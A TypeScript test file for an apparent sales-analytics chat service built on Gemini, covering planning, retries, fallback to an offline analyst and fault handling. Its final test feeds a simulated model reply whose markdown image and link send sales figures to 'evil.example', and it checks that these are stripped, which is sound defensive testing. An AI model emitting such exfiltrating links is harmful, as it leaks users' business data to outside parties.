import type { TurnEvent } from "./events.ts";
import { FOLLOWUPS_MARK } from "./prompts.ts";
import type { GeminiFault } from "./testing/gemini-reply.ts";
import { type GeminiShop, openGeminiShop } from "./testing/gemini-shop.ts";
import { ask, eventsOf, textOf, typesOf } from "./testing/open-shop.ts";
import { OPENING, PLAN, QUERY, SAVE, WRITING } from "./testing/shop-turns.ts";

let shop: GeminiShop;

beforeAll(async () => {
  shop = await openGeminiShop();
});

afterAll(() => shop[Symbol.asyncDispose]());

beforeEach(() => shop.google.reset());

const QUESTION = "What were sales in 2024?";
const ANSWER = "**Sales in 2024 were €24.1K.**";
const GONE =
  "The language model cannot be reached at the moment; the offline analyst answered in its place";
const NO_ANSWER =
  "The language model gave no answer that can be used; the offline analyst answered in its place";

function warningsOf(events: readonly TurnEvent[]) {
  return eventsOf(events, "done")[0]?.warnings;
}

/** What each request was for, by the tools that came with it. */
function requests() {
  return shop.google.requests.map(({ body }) =>
    JSON.stringify(body?.tools ?? []).includes("query_bigquery") ? "plan" : "write",
  );
}

describe("A turn with Gemini", () => {
  test("whose question the analyst understands asks Gemini only for the answer", async () => {
    const events = await ask(shop.deps(), QUESTION);
    expect(textOf(events)).toBe(ANSWER);
    expect(requests()).toEqual(["write"]);
    expect(typesOf(events)).toEqual([...OPENING, ...QUERY, ...PLAN, ...WRITING, ...SAVE, "done"]);
    expect(warningsOf(events)).toEqual([]);
  });

  test("whose question the analyst understands has from it what is kept and what may come next", async () => {
    shop.google.play({ text: "Sales were **€24.1K**." });
    const events = await ask(shop.deps(), QUESTION);
    expect(textOf(events)).toBe("Sales were **€24.1K**.");
    const [{ body } = {}] = shop.google.requests;
    expect(body?.tools ?? []).toEqual([]);
    expect(JSON.stringify(body?.systemInstruction)).not.toMatch(/save_to_memory|follow-ups/);
    const [kept] = eventsOf(events, "memory").filter(({ action }) => action === "saved");
    expect(kept?.value).toContain("€24.1K");
    expect(eventsOf(events, "done")[0]?.suggested_followups.length).toBeGreaterThan(0);
    expect(eventsOf(events, "grounding")).toMatchObject([{ unbound: 0 }]);
  });

  test("whose question Gemini plans keeps and offers what Gemini says", async () => {
    const args = { memory_type: "finding", key: "mine", value: "Sales in 2024 were €24.1K" };
    const sql_query = "SELECT SUM(amount) AS total FROM shop.order_lines";
    shop.google.play(
      { calls: [{ name: "query_bigquery", args: { sql_query } }] },
      { text: "READY" },
      {
        text: `Done.\n${FOLLOWUPS_MARK}\nAnd in 2023?`,
        calls: [{ name: "save_to_memory", args }],
      },
    );
    const events = await ask(shop.deps({ PLANNER: "model" }), QUESTION);
    expect(eventsOf(events, "done")[0]?.suggested_followups).toEqual(["And in 2023?"]);
    expect(eventsOf(events, "memory").map(({ key }) => key)).toContain("mine");
  });

  test.each(["Sing me a song about the sea", "What is our gizmo policy?"])(
    "whose question the analyst does not understand, or finds nothing for, is planned by Gemini: %s",
    async (question) => {
      await ask(shop.deps(), question);
      expect(requests()[0]).toBe("plan");
    },
  );

  test.each(["hello", "What is the target according to the documents?"])(
    "that greets, or whose answer stands in a document, asks Gemini only for the answer: %s",
    async (question) => {
      await ask(shop.deps(), question);
      expect(requests()).toEqual(["write"]);
    },
  );

  test("is planned by Gemini alone when that is set", async () => {
    const events = await ask(shop.deps({ PLANNER: "model" }), QUESTION);
    expect(textOf(events)).toBe(ANSWER);
    expect(requests()).toEqual(["plan", "plan", "write"]);
  });

  test("is planned by the analyst alone when that is set", async () => {
    await ask(shop.deps({ PLANNER: "offline" }), "hello");
    expect(requests()).toEqual(["write"]);
  });

  test("lets Gemini mend a look-up of the analyst that failed", async () => {
    let broken = true;
    const { warehouse } = shop.shop;
    const open = {
      warehouse: {
        ...warehouse,
        query: async (...args: Parameters<typeof warehouse.query>) => {
          const reason = "Unknown column";
          const once = broken;
          broken = false;
          return once
            ? ({ ok: false, failure: { kind: "query-rejected", reason } } as const)
            : warehouse.query(...args);
        },
      },
    };
    const sql_query = "SELECT SUM(amount) AS total FROM shop.orders";
    shop.google.play(
      { calls: [{ name: "query_bigquery", args: { sql_query } }] },
      { text: "READY" },
      { text: "Mended." },
    );
    const events = await ask(shop.deps({}, { open }), QUESTION);
    expect(textOf(events)).toBe("Mended.");
    expect(requests()).toEqual(["plan", "plan", "write"]);
    expect(shop.google.requests.map(({ status }) => status)).toEqual([200, 200, 200]);
  });

  test("gives a garbled call a result that Gemini can read", async () => {
    const message = "Malformed function call: print(default_api.query_bigquery(";
    shop.google.play({ fault: "finish", reason: "MALFORMED_FUNCTION_CALL", message });
    const events = await ask(shop.deps({ PLANNER: "model" }), QUESTION);
    expect(textOf(events)).toBe(ANSWER);
    const result = shop.google.requests[1]?.body?.contents.at(-1)?.parts[0]?.functionResponse;
    expect(JSON.stringify(result)).toContain("sql_query");
  });

  test("asks again for a plan that broke off", async () => {
    shop.google.play({ fault: "cut", after: 2 });
    const events = await ask(shop.deps({ PLANNER: "model" }), QUESTION);
    expect(textOf(events)).toBe(ANSWER);
    expect(warningsOf(events)).toEqual([]);
    expect(requests()).toEqual(["plan", "plan", "plan", "write"]);
  });

  test("waits out a short refusal", async () => {
    shop.google.play(
      { fault: "status", status: 429, retryAfter: "0" },
      { fault: "status", status: 503 },
    );
    const events = await ask(shop.deps(), QUESTION);
    expect(textOf(events)).toBe(ANSWER);
    expect(warningsOf(events)).toEqual([]);
    expect(requests()).toEqual(["write", "write", "write"]);
  });
});

const DOWN: readonly (readonly [string, GeminiFault, string])[] = [
  ["asks to come back in a minute", { fault: "status", status: 429, retryAfter: "60" }, GONE],
  ["refuses", { fault: "status", status: 403 }, GONE],
  ["blocks the question", { fault: "blocked" }, NO_ANSWER],
  ["has no candidates", { fault: "no-candidates" }, NO_ANSWER],
  ["stops for safety", { fault: "finish", reason: "SAFETY" }, NO_ANSWER],
  ["sends a body that is no JSON", { fault: "wrong-json", after: 0 }, NO_ANSWER],
];

const BROKEN = /^word0 (?:word\d+ )+…\n\n_The language model broke off here/;

describe("A turn with Gemini, which", () => {
  test.each(DOWN)("%s while it plans is answered by the analyst", async (_, fault, words) => {
    shop.google.always(fault);
    const deps = shop.deps({ PLANNER: "model" });
    const events = await ask(deps, QUESTION);
    expect(textOf(events)).toBe(ANSWER);
    expect(warningsOf(events)).toEqual([words]);
    expect(deps.reported).toHaveLength(1);
    expect(eventsOf(events, "grounding")).toMatchObject([{ unbound: 0 }]);
  });

  test.each(DOWN)("%s while it writes is answered by the analyst", async (_, fault, words) => {
    shop.google.play({ text: "READY" });
    shop.google.always(fault);
    const deps = shop.deps({ PLANNER: "model" });
    const events = await ask(deps, QUESTION);
    // Gemini had planned nothing: the analyst looks up what its answer needs.
    expect(textOf(events)).toBe(ANSWER);
    expect(warningsOf(events)).toEqual([words]);
    expect(typesOf(events)).toContain("synthesize.failed");
  });

  test.each<GeminiFault>([
    { fault: "cut", after: 2 },
    { fault: "short", after: 2 },
    { fault: "wrong-json", after: 2 },
    { fault: "error-inside", after: 2, status: 503 },
  ])("breaks off by $fault is followed by the whole answer", async (fault) => {
    shop.google.always(fault);
    const deps = shop.deps();
    const text = textOf(await ask(deps, QUESTION));
    expect(text).toMatch(BROKEN);
    expect(text.endsWith(ANSWER)).toBe(true);
    const [stored] = (await ask(deps, "hello")).slice(-1);
    expect(stored?.type).toBe("done");
  });

  test("is down is left alone for a while", async () => {
    shop.google.always({ fault: "status", status: 503, retryAfter: "60" });
    const deps = shop.deps();
    await ask(deps, QUESTION);
    expect(requests()).toEqual(["write"]);
    const events = await ask(deps, QUESTION);
    expect(requests()).toEqual(["write"]);
    expect(textOf(events)).toContain(ANSWER);
    expect(warningsOf(events)).toEqual([GONE]);
  });

  test("is stopped in mid-stream ends with one error and a closed socket", async () => {
    shop.google.always({ fault: "stall", after: 2 });
    const stop = new AbortController();
    const onEvent = ({ type }: TurnEvent) => type === "content" && stop.abort();
    const events = await ask(shop.deps(), QUESTION, { signal: stop.signal, onEvent });
    expect(events.at(-1)).toMatchObject({ type: "error", code: "cancelled" });
    expect(await shop.google.requests[0]?.end).toBe("abandoned");
  });
});

describe("An answer of Gemini's", () => {
  test("carries no figures out by an image or a link, whoever renders it", async () => {
    shop.google.play({
      text: "Sales were **€24.1K**. ![chart](https://evil.example/p?sales=24.1) [More](https://evil.example/24.1)",
    });
    const events = await ask(shop.deps(), QUESTION);
    expect(textOf(events)).toBe("Sales were **€24.1K**. chart More");
    expect(JSON.stringify(events)).not.toContain("evil.example");
  });
});
